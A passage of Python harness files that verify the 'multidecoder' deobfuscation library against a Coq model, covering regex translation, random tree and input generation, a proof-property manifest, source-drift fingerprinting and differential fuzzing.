             "   One definition per regular expression the code uses (the pattern text is deliberately not repeated here). *)",
             "From Coq Require Import List NArith String.", "From MD Require Import Regex.Syntax.",
             "Import ListNotations.", "Local Open Scope string_scope.", ""]
    table = []
    info = {}
    for name, pat, where in pats:
        if pat in HAND_MODELLED:
            info[name] = {"where": where, "status": "hand-modelled", "len": len(pat)}
            continue
        r, ng = translate(pat, name)
        lines.append(f"Definition RE_{name} : re := {emit(r)}.")
        lines.append(f"Definition NG_{name} : nat := {ng}%nat.")
        table.append(f'  ("{name}", (RE_{name}, NG_{name}))')
        info[name] = {"where": where, "groups": ng, "len": len(pat), "nullable": nullable(r)}
    lines.append("")
    lines.append("Definition all_regexes : list (string * (re * nat)) := [")
    lines.append(";\n".join(table))
    lines.append("].")
    return {"Regexes.v": "\n".join(lines) + "\n"}, info, pats
