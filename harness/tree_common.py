"""Random node trees for the view-level properties (C19 flatten, C20 JSON / summary / CLI)."""
from __future__ import annotations

TYPES = ["", "string", "vba.string", "powershell.bytes", "network.url", "x", "tÿpeሴ"]
OBFS = ["", "encoding.base64", ">odd", "café"]


def rand_bytes(rng, n, alpha=None):
    if alpha is None:
        alpha = b"ab\"'\\\n\r\t \x00\x7f\x80\xffzZ09"
    return bytes(rng.choice(alpha) for _ in range(n))


def rand_tree(rng, depth, wellformed=True, maxfan=4, maxlen=12, root=True):
    """tree as canonical list; wellformed = children in bounds and ordered by start (overlap / nesting allowed)"""
    val = rand_bytes(rng, rng.randint(0, maxlen))
    return _tree(rng, val, depth, wellformed, maxfan, root)


def _tree(rng, val, depth, wellformed, maxfan, root):
    kids = []
    if depth > 0 and (len(val) > 0 or not wellformed):
        n = rng.randint(0, maxfan)
        spans = []
        for _ in range(n):
            if wellformed:
                a = rng.randint(0, len(val))
                b = rng.randint(a, len(val))
            else:
                a = rng.randint(-3, len(val) + 3)
                b = rng.randint(-3, len(val) + 3)
            spans.append((a, b))
        if wellformed:
            spans.sort(key=lambda s: s[0])
        for a, b in spans:
            covered = val[a:b]
            r = rng.random()
            if r < 0.35:
                cval = covered                      # not decoded: left alone unless something below changes
            elif r < 0.5:
                cval = covered.swapcase()
            else:
                cval = rand_bytes(rng, rng.randint(0, 6))
            c = _tree(rng, cval, depth - 1, wellformed, maxfan, False)
            c[3], c[4] = a, b
            kids.append(c)
    ty = "" if root and rng.random() < 0.7 else rng.choice(TYPES)
    return [ty, val, rng.choice(OBFS), 0, len(val), kids]


def count_nodes(t):
    return 1 + sum(count_nodes(k) for k in t[5])


def is_wellformed(t):
    last = None
    for k in t[5]:
        if not (0 <= k[3] <= k[4] <= len(t[1])):
            return False
        if last is not None and k[3] < last:
            return False
        last = k[3]
        if not is_wellformed(k):
            return False
    return True
