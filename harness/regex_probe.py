"""Regex layer correspondence: Regex/Backtrack.v (on the translator's AST) vs the real `regex` engine on the
current pattern text: every span and every group span of finditer, on subjects sampled from the AST, mutated and embedded."""
from __future__ import annotations

import regex

import gen_regexes


def sample(r, rng, depth=0):
    t = r[0]
    if t in ("Eps", "WordB", "Bol", "Eol", "NLook"):
        return b""
    if t == "Cls":
        m = r[1]
        members = [c for c in range(256) if m >> c & 1]
        if not members:
            return b""
        pref = [c for c in members if 32 <= c < 127]
        if pref and rng.random() < 0.85:
            return bytes([rng.choice(pref)])
        return bytes([rng.choice(members)])
    if t == "Seq":
        return sample(r[1], rng, depth) + sample(r[2], rng, depth)
    if t == "Alt":
        return sample(r[1] if rng.random() < 0.5 else r[2], rng, depth)
    if t == "Rep":
        lo, hi = r[1], r[2]
        extra = rng.choice([0, 0, 1, 2, 5])
        n = lo + extra if hi is None else min(hi, lo + extra)
        return b"".join(sample(r[3], rng, depth + 1) for _ in range(n))
    if t == "Grp":
        return sample(r[2], rng, depth)
    raise ValueError(t)


def alphabet(r, acc):
    t = r[0]
    if t == "Cls":
        m = r[1]
        members = [c for c in range(256) if m >> c & 1]
        if len(members) <= 40:
            acc.update(members)
        else:
            acc.update(c for c in members if c in b"aZ09_.-/ \n\"'")
    elif t in ("Seq", "Alt"):
        alphabet(r[1], acc)
        alphabet(r[2], acc)
    elif t == "Rep":
        alphabet(r[3], acc)
    elif t in ("Grp", "NLook"):
        alphabet(r[2], acc)


def mutate(w, rng, alpha):
    if not w:
        return w
    w = bytearray(w)
    for _ in range(rng.randint(1, 3)):
        i = rng.randrange(len(w))
        k = rng.random()
        if k < 0.4:
            w[i] = rng.choice(alpha)
        elif k < 0.7:
            del w[i]
            if not w:
                break
        else:
            w.insert(i, rng.choice(alpha))
    return bytes(w)


def subjects(r, rng, n, maxlen=400):
    acc = set()
    alphabet(r, acc)
    alpha = sorted(acc | set(b" ax1.\"'(\n"))
    out = []
    for _ in range(n):
        w = sample(r, rng)
        k = rng.random()
        if k < 0.25:
            s = w
        elif k < 0.5:
            s = mutate(w, rng, alpha)
        elif k < 0.8:
            pre = bytes(rng.choice(alpha) for _ in range(rng.randint(0, 6)))
            suf = bytes(rng.choice(alpha) for _ in range(rng.randint(0, 6)))
            s = pre + (w if rng.random() < 0.7 else mutate(w, rng, alpha)) + suf
        else:
            s = w + bytes(rng.choice(alpha) for _ in range(rng.randint(0, 3))) + sample(r, rng)
        if len(s) <= maxlen or len(out) < 2:
            out.append(s)
    return out


def impl_finditer(pat, text, ngroups):
    return [[list(m.span(g)) if m.span(g) != (-1, -1) else [] for g in range(ngroups + 1)] for m in regex.finditer(pat, text)]


def run_regex_probe(ctx, names=None, per_regex_quick=40, per_regex_thorough=600):
    """names: iterable of generated regex names (None = all)"""
    pats = gen_regexes.collect()
    n_per = ctx.budget(per_regex_quick, per_regex_thorough)
    for name, pat, where in pats:
        if pat in gen_regexes.HAND_MODELLED:
            continue
        if names is not None and name not in names:
            continue
        r, ng = gen_regexes.translate(pat, name)
        big = len(sample(r, ctx.rng)) > 1000
        subs = subjects(r, ctx.rng, 4 if big else n_per, maxlen=6000 if big else 400)
        ctx.compare("finditer", [[name, s] for s in subs], lambda a, pat=pat, ng=ng: impl_finditer(pat, a[1], ng),
                    nontrivial=lambda a, o: len(o) > 0,
                    classify=lambda a, o, name=name: "re:%s:%s" % (name, "match" if o else "nomatch"))
