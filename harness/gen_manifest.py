"""Regenerates /verif/MANIFEST.json from the table below (run by hand after registering a property)."""
import json
import os

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
props = [json.loads(l) for l in open(os.path.join(VERIF, "properties.jsonl"))]

TB = ("Trusted: Coq 8.16.1 kernel and vm_compute (no native_compute, no axioms: Print Assumptions is captured on every run and any axiom "
      "not declared for the property breaks the check); the translator harness/translate.py; extraction (ExtrOcamlBasic only, no Extract Constant) "
      "and ocaml/driver.ml; the correspondence harness (generators, canonicalisers, oracles). ")

CHECKS = {
    "C01": ("Coq theorems: the engine is total for any registry whose searchers return in-bounds hits (every node, every integer depth), a raising / hanging searcher propagates (nothing swallowed), the in-bounds precondition is necessary "
            "(Hang example = former defect F5); END-TO-END never-raise theorems for the shipped decoders on every input, with regex-shape facts discharged by vm_compute of a verified exploration on the regex terms regenerated from the source "
            "(so the fixed defects F1-F5, F7, F21 cannot recur unnoticed). The whole default registry (30 decoders on the model's regex matcher + 127 keyword files + engine) is compared with Multidecoder().scan on generated and malformed inputs; "
            "the implementation is additionally run with a watchdog on a large corpus and every read-only view is exercised.",
            "Known finding F26 (about 1000 nested undecoded contexts make the recursive views raise RecursionError) is reported as KNOWN-FINDING. PARTIAL: time inside the regex engine (catastrophic backtracking), interpreter limits (recursion, memory), exceptions inside pefile other than PEFormatError and xortool's float code are outside the model; pefile / xortool are oracles. "
            "Decoder theorems are disjunctions `Hang or Ok` (Hang = matcher fuel of the model).", "4 C01"),
    "C02": ("Coq theorems: per layer the codec law (decoding the encoder image yields the payload, all payloads of the layer's domain) for base64, hex, UTF-16LE, XML references, percent-unescape, reversal, replacement, concatenation, caret escaping, byte arrays; "
            "the engine part for arbitrary registries (a decoded hit's children are a scan of its value with one less depth; flatten splices re-quoted children; chain law in Proofs/ChainProofs.v). Correspondence: encoder stacks of height 1-3 (quick) / 1-6 "
            "(thorough) over 19 layer forms embedded in neutral text: chain of nodes, exact outer span, flattened text; whole-scan model = implementation on a subset.",
            "PARTIAL: span selection by the shipped regexes under embedding and dominance over other shipped decoders are validated by the stacks, not proved.", "4 C02"),
    "C03": ("Coq theorems for every registry with non-empty in-bounds hits, every node and depth: the root header is untouched, every node the scan attaches lies "
            "inside its parent's value (start < end), at every nesting level (deep_ok on the annotated reference tree the engine's tree is the erasure of), every attached "
            "node comes from a reported hit. Tied to multidecoder.py by the engine correspondence (exhaustive small hit tables + random) and an implementation-side oracle "
            "that also checks parent pointers and pre-order iteration, which a value-level model cannot express.",
            "In-bounds-ness of the hits the SHIPPED decoders report (wf_search for the default registry) is proved per decoder where a decoder model exists and otherwise "
            "only checked by the whole-scan probes; known finding F6 (powershell span without context) is excluded by its matcher.", "4 C03"),
    "C04": ("Coq theorems (unbounded: all registries with in-bounds hits, all inputs, all depths): every kept hit reported at [a,b) is placed with start = a - (start of the enclosing "
            "context), length b-a, and its original slice equals text[a:b] up to ASCII case, recursively through any nesting of undecoded contexts (pass_ok / deep_ok), via the "
            "proved refinement engine = erase(reference). Correspondence: Multidecoder.scan_node with synthetic registries vs the extracted model; oracle recomputes absolute offsets from recorded hits.",
            "Assumes the registry is a pure function and its kept hits are non-empty and in bounds (the property's own quantifier).", "4 C04"),
    "C05": ("Coq theorems: among the children attached by any search pass starts are non-decreasing and ends strictly increasing (all pairs), at every nesting level and depth (pass_ok carries the laminar "
            "clause, deep_ok every level); suppression/nesting follows from the proved refinement to the interval-nesting reference. Regression example for the decode_end defect (fixed in /repo). "
            "Correspondence + oracle on exhaustive small and biased random hit tables.", "As C04.", "4 C05"),
    "C06": ("Coq theorem engine_refines_reference: for every registry with non-empty in-bounds hits, every node, depth and annotation, the step machine modelling multidecoder.py (relative "
            "coordinates, running offset, stack) returns exactly the erasure of the interval-nesting reference written in absolute coordinates; plus permutation / sortedness / stability of the hit order. "
            "Correspondence: the model vs Multidecoder.scan_node on all sequences of <= 2 (quick) / <= 3 (thorough) hits x 4 kinds x all spans of a small text and random tables beyond, and an "
            "independent Python transcription of the reference as oracle.", "As C04. The reference itself is the property text transcribed (Model/Reference.v); reviewers should read it.", "4 C06"),
    "C07": ("Coq theorems for ANY registry: depth <= 0 returns the bare root; the tree for k is tree_le the tree for k+1 (identical headers, order-preserving sub-lists) for all k; a shallower scan cannot fail "
            "where a deeper succeeds; a logging twin of the engine (proved to compute the same tree) searches only with 1 <= remaining depth <= k; termination is structural recursion on the depth, with a "
            "self-reproducing registry example. Correspondence over depths -3..12 incl. self-reproducing registries; oracle compares k with k+1 on the implementation.", "No wf assumption needed for C07.", "4 C07"),
    "C08": ("Coq theorems: what a scan attaches below a node depends only on its type and value (scan_node_fresh, under wf_search); the engine equals the fold whose decoding branch attaches the children of "
            "an independent scan of a fresh node with one less depth (scan_node_attaches_fresh_scans); on the annotated tree every decoded node is the reference scan of its own header (deep_ok). "
            "Correspondence + oracle: every decoded node of every result is re-scanned independently on the implementation.", "As C04 (wf_search is genuinely necessary: see C03_out_of_bounds_hangs).", "4 C08"),
    "C09": ("Coq theorems: the keyword registry is invariant under any permutation of the directory listing at every level (dtree_perm) and under any order / multiplicity of the words of a file "
            "(set iteration order, i.e. the string-hash seed); build_registry likewise; the scan is a function of (registry, depth, data) up to extensional equality of the registry. The model is tied to "
            "registry.py by the get_keywords probe run with os.walk reporting shuffled orders. PARTIAL: hidden shared state in CPython / regex / pefile, thread interleavings and process-level hash seeds cannot be "
            "exhibited by a Gallina model; they are exercised on the implementation (re-used scanner after a history, 8 threads sharing one scanner, subprocesses under several PYTHONHASHSEED values, library and CLI).",
            "File names within one directory are distinct. Runtime behaviours named above are covered by execution only.", "4 C09"),
    "C18": ("Coq theorems: get_analyzers selects exactly the decoders of the modules included (or all) and not excluded, as a sub-sequence of the default list; get_keywords yields one searcher per non-empty "
            "keyword file (any depth of sub-directories), typed by the file name, words = non-blank lines (splitlines characterised), no duplicates, sorted; build_registry splits into a keyword part that depends only on "
            "the directory and a decoder part that depends only on include/exclude; the translator's table of @decoder-marked functions (from the source text) is the default registry. Correspondence with registry.py on all "
            "singleton / pair / random selections and generated directories; oracle from the property text.",
            "pkgutil / inspect / os.walk enumeration are oracles (their sorted order is reproduced by the translator and the model's sorting).", "4 C18"),
    "C10": ("Coq theorems: IP node values are canonical dotted quads (inet_aton / IPv4Address models), free-text addresses reported verbatim; is_domain = non-empty name + registered TLD (iff); free-text domains >= 7 characters; e-mail = local@domain; "
            "URL nodes: scheme in {http, https, ftp}, non-empty host, value = normalize_percent_encoding of the covered text, labelled iff shorter; normalisation length / idempotence laws; find_urls never raises. "
            "Correspondence per decoder + node oracle on every network.* node of decoder outputs and whole scans.",
            "Models of glibc inet_aton, ipaddress, urllib.parse (CPython 3.12.1) validated against Python, not verified against their sources.", "4 C10"),
    "C11": ("Coq theorems: validators accept every grammar instance (canonical quads, name.TLD); each decoder reports the match text with the documented type and exactly the match span; CreateObject up to the balancing parenthesis; PE carving for any section table; "
            "matcher model sound (and complete for assertion-free patterns) w.r.t. the regex language. Correspondence: grammar-generated instances x offsets x neutral surroundings through the whole scan; per-decoder model comparison.",
            "PARTIAL: that the engine selects exactly the instance's span under embedding is exercised, not proved; pefile is an oracle.", "4 C11"),
    "C12": ("Coq theorems: every URL part child's span selects the component text inside the URL value and its value is the decoded component (scheme / MixedCase iff, authority parts, path by RFC 3986 dot-segment removal that never pops the root, "
            "query, fragment), with the exact remaining side conditions stated; Windows path value = normpath, labelled iff shorter, host / file-name children index the value (unconditional since the F20 fix). "
            "Correspondence per decoder + independent node oracles (own RFC 3986 splitter, ntpath).",
            "Side conditions kept visible: '//' with empty authority (unreachable from find_urls), percent-escaped '[' of an IPv6 literal; relative paths with empty segments are outside the property's wording.", "4 C12"),
    "C13": ("Coq theorems: RFC 4648 round trip for every payload; CPython's lenient a2b_base64 (modelled from experiment) agrees with the RFC decoding on canonical text and skips junk; exact characterisation of the nodes "
            "emitted by atob / Base64Decode / FromBase64String / bare base64 (cleaning of line breaks and HTML escapes, the acceptance rules as an iff) / hex / FromHexString / xor children / PowerShell byte arrays, for arbitrary match lists "
            "with in-bounds spans; the regexes are regenerated from the source each run and the decoders run the model's own matcher. Correspondence per decoder + node oracle on every encoding.* / decoded.* / cipher.* node of decoder outputs "
            "and whole scans + converse check (acceptable payloads decoded as one unit with exact span).",
            "PARTIAL for the converse half: that the regex engine selects exactly the encoded span for open-ended bare forms is validated by the converse probe, not proved (known finding F11 lives there). xortool is an oracle.", "4 C13"),
    "C14": ("Coq theorems END TO END for every input (regex-dependent steps discharged by vm_compute of a verified product exploration on the regex terms regenerated from the source): find_xml_hex / find_chr / find_unescape / find_utf16 never raise and every "
            "node decodes exactly the escaped expression it covers (references -> bytes, chr(n) -> UTF-8 of n with surrogates skipped, percent-decoding, UTF-16LE Latin-1 -> UTF-8); codec laws (UTF-8 round trip, unquote/quote, int parsing). "
            "Correspondence per decoder on regex-sampled, dedicated and corpus inputs; node oracle on all four labels.",
            "Matcher fuel: theorems are disjunctions `Hang or Ok ...` (Hang = the model's matcher ran out of fuel; the real engine would still be backtracking). Model of the regex engine tied by the finditer probe.", "4 C14"),
    "C15": ("Coq theorems: s[-2:0:-1] of a quoted literal is its contents reversed (all contents); bytes.replace is the unique leftmost non-overlapping substitution of every occurrence; the four replace dialects, reverse / StrReverse and concat emit "
            "exactly the evaluated string with the dialect's type / label and the match span, for arbitrary in-bounds match lists; get_closing_brace balance spec. Correspondence per decoder; node oracle restricted to the property's domain (quote-free, non-operator literals).",
            "Span exactness by the regex engine is validated (probes), not proved, for open-ended concat chains.", "4 C15"),
    "C16": ("Coq theorems: the index loop of strip_carets equals the cmd.exe specification on EVERY byte string (never raises / hangs); label iff changed; the parenthesis cut; cmd result span / value incl. an exact characterisation of the quote repair; "
            "PowerShell span in the three context cases, the four node shapes, the encoded-command value; END TO END: find_cmd_strings and find_powershell_strings never raise on any input (regex shape by reflection). "
            "Correspondence: strip_carets exhaustively over {^ \" CR LF a space}^<=6/8 against model and specification; both decoders on generated command texts.",
            "Known finding F6 (no-context PowerShell end = len(data) - start, pinned by the test-suite) is modelled as coded; ps_end_ge_start_except_no_context proves it is the only branch that can misplace the end.", "4 C16"),
    "C17": ("Coq theorems (all keyword lists, all data): find_all terminates and equals the delimiter-filtered greedy left-to-right occurrence list, characterised declaratively (sound, spaced, complete); "
            "hit fields; MixedCase iff. Correspondence (extracted model vs keyword.py on exhaustive small and random inputs) and an independent oracle using the stdlib re module.",
            "Hand-written models of bytes.lower/find/isalnum/isupper/islower and chr().isupper for code points < 256, pinned by probes.", "4 C17"),
    "C19": ("Coq theorems (all trees): flatten = splice of the left-to-right selected children (chained, each from a child whose flattened value differs from the text it covers, quoted iff the type ends in "
            "'string'), bytes outside substituted spans preserved (in-bounds children), length formula, identity on trees where no value differs. Correspondence with Node.flatten on random well-formed and "
            "malformed trees and on scan results; oracle written from the property text.", "Model of Python slicing for arbitrary integers (pinned by the malformed stream).", "4 C19"),
    "C20": ("Coq theorems: as_node (node_to_dict t) = t for every tree, node_to_dict injective, fromhex/hexlify round trip, node equality is structural (iff), one summary line per node in pre-order built from the "
            "real ancestor chain, escaped values never contain a line break, squash_replace = flatten on trees without overlapping substitutions. Correspondence with json_conversion.py / query.py / node.py on random "
            "trees (all byte values, non-ASCII labels); the real json round trip, parent links and the CLI (file, stdin, --json, default, --replace, --keywords) are exercised on the implementation.",
            "json.dumps/loads are a trusted oracle; CLI glue (argparse, I/O) is tied by execution only - partial for that part.", "4 C20"),
}

SHIPPED = (" The same statements are also proved AT THE SHIPPED SCANNER (Proofs/DefaultEngine.v): for the model of Multidecoder().scan with the regenerated registry of all 30 decoders and the keyword searchers "
           "(find_powershell_strings replaced by any conforming decoder where in-bounds hits are needed - known finding F6 is why it does not conform itself -, or the shell module excluded; C07 / C08 / order / chain need no such hypothesis and are about scan_default itself). "
           "The engine correspondence also runs on registry tables RECORDED from scans with the shipped decoders.")
RT = " END-TO-END round trips WITH span selection by the model's matcher on the regenerated patterns (Proofs/RoundTrip*.v): for every payload / instance of the stated class, every neutral prefix and any admissible suffix, the form is reported as ONE node with exactly its span and the stated value"
ADD = {
    "C01": " The assembly for the whole shipped registry is proved: scan_default_never_raises (every input, depth limit, keyword directory, tool oracle with non-negative pe_size: a tree or matcher-fuel exhaustion, never an exception); every registered @decoder name has a model (registered_names_modelled_b).",
    "C02": RT + ": atob / Base64Decode / FromBase64String / FromHexString / unescape / UTF-16LE / decimal XML references / reverse / StrReverse / three replace dialects / n-ary concatenation / bare hex (both cases) / bare base64 (also line-wrapped) / the caret layer; the engine chain law also at scan_default itself; and FULLY END-TO-END instances (Proofs/Dominance.v): for every payload the whole scan of unescape('...') and of unescape(atob(...)) with all 30 decoders and the shipped keyword lists is exactly the nested chain - dominance over every other searcher proved.",
    "C03": " REGISTRY PART (Proofs/DefaultWf.v): 29 of the 30 shipped decoders and every keyword searcher report only in-bounds, non-inverted spans on every input, so whole scans with find_powershell_strings replaced by any conforming decoder (or shell excluded) are in bounds at every level; find_powershell_strings is proved NOT to conform (F6 witness (68,35)): the carve-out is exact.",
    "C04": SHIPPED, "C05": SHIPPED + " Every child list of shipped-registry scans (decoder-supplied sub-structure included) is checked for laminarity on the implementation side.", "C06": SHIPPED,
    "C07": SHIPPED + " The first clause is also checked on the shipped registry by recording every call of a decoder function (through the registry and through the module globals).", "C08": SHIPPED + " Implementation side: every decoded node of shipped-registry scans is re-scanned on its own by the unwrapped scanner.",
    "C10": RT + ": URLs without escapes / dot segments and domains under the regenerated TLD table are reported verbatim and unlabelled.",
    "C11": " Matcher OFFSET INDEPENDENCE (Regex/LocalityProofs.v: what is matched from a position on depends only on the following text and the last lb_width bytes before it, and shifts with the offset; lb_width of the indicator patterns computed by name)." + RT + ": IPv4 addresses, domains, e-mail addresses, .exe / .dll names, POSIX paths, CreateObject calls, simple URLs with query / fragment, URLs with an explicit port (1-4 digits) or a canonical IPv4 host (Proofs/RoundTrip8.v), drive paths, UNC paths (Proofs/RoundTrip9.v).",
    "C12": RT + ": for the simple URL class the reported node has exactly the scheme / domain / path / query / fragment children at the positions of those components (with an explicit port: scheme / domain / path, the path after the port; with a canonical IPv4 host: network.ip host child - Proofs/RoundTrip8.v); drive paths with their file-name child; UNC paths with the host child at 2 .. 2+|host| of the value and the file-name children (Proofs/RoundTrip9.v).",
    "C13": " CONVERSE proved end to end" + RT[len(" END-TO-END round trips"):] + ": the four call forms, bare lower / upper hex (the F11 hypothesis made exact and shown necessary) and bare base64 incl. LF / CR LF wrapping.",
    "C14": RT + ": unescape, UTF-16LE, decimal XML references.",
    "C15": RT + ": reverse / StrReverse, the three replace dialects (py_replace_inverse: the token trick is undone), n-ary concatenation chains.",
    "C16": RT + ": the cmd result (find_cmd_strings_roundtrip) and the caret layer.",
}
NOTE_FIX = {
    "C02": "PARTIAL: span selection is PROVED for the layer forms listed (RoundTrip*.v) and validated by the stacks for the remaining spellings; dominance over the other shipped decoders' hits is proved for the unescape and unescape-over-atob forms (Dominance.v) and validated for the other forms.",
    "C03": "In-bounds-ness of the hits the SHIPPED decoders report is proved (DefaultWf.v) for all but find_powershell_strings, which is the known finding F6 (also F19 for its pre-built child): excluded by their matchers, reported as KNOWN-FINDING.",
    "C11": "PARTIAL: instance selection is proved for the classes listed; for URLs with userinfo / port / escapes / IP hosts, UNC and device paths and PE files it is exercised by the probes. pefile is an oracle (section table).",
    "C13": "The converse is proved for all forms except character-reference line separators inside wrapped base64 (exercised); known finding F11 (upper-case hex with >= 10 leading digit pairs) is stated exactly as a theorem hypothesis and reported as KNOWN-FINDING.",
}

TECH = "machine-checked proof in Coq (model + theorems) tied to the code by a regenerating translator and a model/implementation correspondence check"


def chk(pid):
    text, note, ref = CHECKS[pid]
    text = text + ADD.get(pid, "")
    note = NOTE_FIX.get(pid, note)
    return {"property_id": pid, "quick_cmd": f"./check {pid} --tier quick", "thorough_cmd": f"./check {pid} --tier thorough",
            "evidence_file": f"/verif/evidence/{pid}.json", "replay_cmd_template": f"./check {pid} --replay {{path}}",
            "engine": "coq-model+correspondence", "level_claimed": {"category": "proof", "text": text, "design_ref": "DESIGN.md section " + ref},
            "level_note": TB + note, "technique": TECH}


m = {
    "version": 1,
    "setup_cmd": "make -C /verif setup",
    "hooks": {"guard": "MULTIDECODER_VERIF",
              "enable": "no source hooks are needed: checks import /repo/src directly (PYTHONPATH), registries are injected, decoders are wrapped from outside",
              "baseline_off_cmd": "cd /repo && /venv/bin/python -m pytest -ra -q -p no:cacheprovider --timeout=900 --continue-on-collection-errors",
              "source_commits": [], "add_only": True},
    "engines": [{"name": "coq-model+correspondence", "path": "/verif/coq, /verif/harness, /verif/ocaml", "serves_properties": sorted(CHECKS),
                 "kind_free_text": "Gallina model + Coq theorems (coq/Properties/Cxx.v); translator regenerates coq/Generated/*.v from /repo source on every run; "
                                   "the model is extracted to OCaml and run against the implementation (correspondence), implementation-side oracles search for failing inputs"}],
    "checks": [chk(p["id"]) for p in props if p["id"] in CHECKS],
    "not_applicable": [{"property_id": p["id"], "reason": "check still being built in this session (model exists or is in progress; will be claimed)"}
                       for p in props if p["id"] not in CHECKS],
    "notes": "See DESIGN.md (section 11 = as built). known_findings.json lists the open findings (F6, F19, F11, F26) and the 20 'fix:' commits made in /repo (F1-F5, F7-F10, F12-F16, F18, F20-F25); seeded/ holds 140 confirmed seeded changes, all caught.",
}
json.dump(m, open(os.path.join(VERIF, "MANIFEST.json"), "w"), indent=1)
print("checks:", [c["property_id"] for c in m["checks"]])
