"""Source-drift escalation.  sha256 of ast.dump of every function / module-level assignment of /repo/src/multidecoder.  A changed
fingerprint is NEVER a violation: it only raises the budgets of the checks whose property is anchored in that file from the quick to the
thorough generator counts on that run (the model of the changed function was written against the baseline)."""
from __future__ import annotations

import ast
import glob
import hashlib
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
BASE = os.path.join(HERE, "fingerprints.json")
SRC = os.path.join(os.environ.get("VERIF_REPO", "/repo"), "src", "multidecoder")


def current():
    out = {}
    for path in sorted(glob.glob(os.path.join(SRC, "**", "*.py"), recursive=True)):
        rel = "src/multidecoder/" + os.path.relpath(path, SRC)
        if rel.endswith("domains.py") or rel.endswith("_version.py"):
            continue
        try:
            tree = ast.parse(open(path).read())
        except SyntaxError:
            out[rel + "::<syntax>"] = "syntax-error"
            continue
        for n in tree.body:
            if isinstance(n, (ast.FunctionDef, ast.ClassDef)):
                for m in ([n] if isinstance(n, ast.FunctionDef) else [x for x in n.body if isinstance(x, ast.FunctionDef)]):
                    out[f"{rel}::{getattr(n, 'name', '')}.{m.name}" if m is not n else f"{rel}::{n.name}"] = hashlib.sha256(ast.dump(m).encode()).hexdigest()[:16]
            elif isinstance(n, (ast.Assign, ast.AnnAssign)):
                out[f"{rel}::<assign>{ast.dump(n.targets[0] if isinstance(n, ast.Assign) else n.target)[:60]}"] = hashlib.sha256(ast.dump(n).encode()).hexdigest()[:16]
    return out


def drift():
    """[changed / added / removed fingerprint keys] w.r.t. the committed baseline"""
    if not os.path.exists(BASE):
        return []
    base = json.load(open(BASE))
    cur = current()
    return sorted(k for k in set(base) | set(cur) if base.get(k) != cur.get(k))


def drift_for(files):
    return [k for k in drift() if any(k.startswith(f + "::") for f in files)]


if __name__ == "__main__":
    if "--update" in sys.argv:
        json.dump(current(), open(BASE, "w"), indent=1, sort_keys=True)
        # the snapshot the drift-directed search (harness/driftsearch.py) compares the current tree with
        import shutil
        snap = os.path.join(os.path.dirname(HERE), "baseline_src", "multidecoder")
        shutil.rmtree(snap, ignore_errors=True)
        shutil.copytree(SRC, snap, ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
        print("baseline written:", len(current()), "fingerprints")
    else:
        print(drift())
