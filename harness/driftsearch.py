"""Drift-directed differential search.  When the source of /repo differs from the baseline the model was written against, look for inputs
on which the CURRENT package and the BASELINE snapshot (/verif/baseline_src, served by harness/basesrv.py in a separate process) behave
differently: corpus + mutation, keeping inputs that reach new lines / branches of the changed files (sys.settrace restricted to them).
A difference is NOT a verdict: the inputs found are handed to the property's own probes (model comparison + oracles written from the
property text), which decide.  Everything is derived from the check's PRNG, so a run replays exactly."""
from __future__ import annotations

import os
import subprocess
import sys
import time

import driftsig

HERE = os.path.dirname(os.path.abspath(__file__))
BASE_SRC = os.path.join(os.path.dirname(HERE), "baseline_src")

TOKENS = [b"+", b":", b"(", b")", b"^", b'"', b"'", b"%", b"&", b"#", b";", b"=", b"/", b"\\", b".", b"@", b",", b" ", b"\x00", b"\r", b"\n", b"x", b"X", b"0", b"-", b"_", b"[", b"]", b"{", b"}", b"<", b">",
          b"?", b"|", b"$", b"`", b"~", b"*", b"z", b"Z", b"a", b"A", b"%2e", b"%41", b"::", b"//", b"..", b"==", b"&#", b"0x", b"MZ", b"^^", b'""', b"''", b"((", b"))", b"\xff", b"\x80"]


class Base:
    def __init__(self):
        env = dict(os.environ, PYTHONPATH=BASE_SRC, PYTHONHASHSEED="0", PYTHONDONTWRITEBYTECODE="1")
        self.p = subprocess.Popen([sys.executable, os.path.join(HERE, "basesrv.py")], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env)

    def send(self, items):
        """the server works on the batch while the caller computes its own signatures"""
        import threading
        blob = b"".join(((data.hex() or "-") + " " + ("-" if depth is None else str(depth)) + "\n").encode() for data, depth in items)
        self._n = len(items)
        self._out = []
        def pump():
            self.p.stdin.write(blob)
            self.p.stdin.flush()
        def drain():
            self._out = [self.p.stdout.readline().decode().strip() for _ in range(self._n)]
        self._t = [threading.Thread(target=pump), threading.Thread(target=drain)]
        for t in self._t:
            t.start()

    def recv(self):
        for t in self._t:
            t.join()
        return self._out

    def sigs(self, items):
        self.send(items)
        return self.recv()

    def fresh(self):
        self.p.stdin.write(b"fresh\n")
        self.p.stdin.flush()
        self.p.stdout.readline()

    def close(self):
        try:
            self.p.stdin.close()
            self.p.wait(timeout=5)
        except Exception:  # noqa: BLE001
            self.p.kill()


class Cover:
    """line + edge coverage inside the files that drifted (or all package files when the drift is elsewhere)"""

    def __init__(self, files):
        self.files = tuple(files)
        self.seen = set()
        self.new = 0

    def _local(self, frame, event, arg):
        if event == "line":
            k = (frame.f_code.co_filename, frame.f_code.co_name, self.prev.get(id(frame), 0), frame.f_lineno)
            self.prev[id(frame)] = frame.f_lineno
            if k not in self.seen:
                self.seen.add(k)
                self.new += 1
        return self._local

    def _global(self, frame, event, arg):
        if event == "call" and frame.f_code.co_filename.endswith(self.files):
            return self._local
        return None

    def run(self, fn):
        self.new = 0
        self.prev = {}
        sys.settrace(self._global)
        try:
            return fn()
        finally:
            sys.settrace(None)


def mutate(rng, w, pool):
    w = bytearray(w)
    for _ in range(rng.choice([1, 1, 1, 2, 3])):
        k = rng.random()
        i = rng.randrange(len(w) + 1)
        if k < 0.15 and w:
            j = rng.randrange(len(w))
            c = w[j]
            if 65 <= c <= 90 or 97 <= c <= 122:
                w[j] = c ^ 0x20
            else:
                w[j:j + 1] = rng.choice(TOKENS)
        elif k < 0.40:
            w[i:i] = rng.choice(TOKENS)
        elif k < 0.50 and w:
            j = rng.randrange(len(w))
            w[j:j + 1] = rng.choice(TOKENS)
        elif k < 0.62 and w:
            j = rng.randrange(len(w))
            del w[j:j + rng.choice([1, 1, 2, 4, 8])]
        elif k < 0.72 and w:
            j = rng.randrange(len(w))
            n = rng.choice([1, 1, 2, 3, 8])
            w[j:j] = w[j:j + n]
        elif k < 0.80 and w:
            del w[rng.randrange(len(w)):]
